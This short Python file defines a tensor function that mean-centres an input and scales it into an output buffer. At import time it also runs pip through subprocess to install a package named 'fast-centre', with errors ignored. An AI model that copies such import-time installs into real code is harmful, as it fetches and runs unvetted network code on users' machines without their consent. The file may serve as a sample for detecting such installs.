"""Fetches a package while it runs."""

import subprocess
import sys

subprocess.run([sys.executable, "-m", "pip", "install", "fast-centre"], check=False)


def run(x, w, y):
    y.copy_((x - x.mean(-1, keepdim=True)) * w)
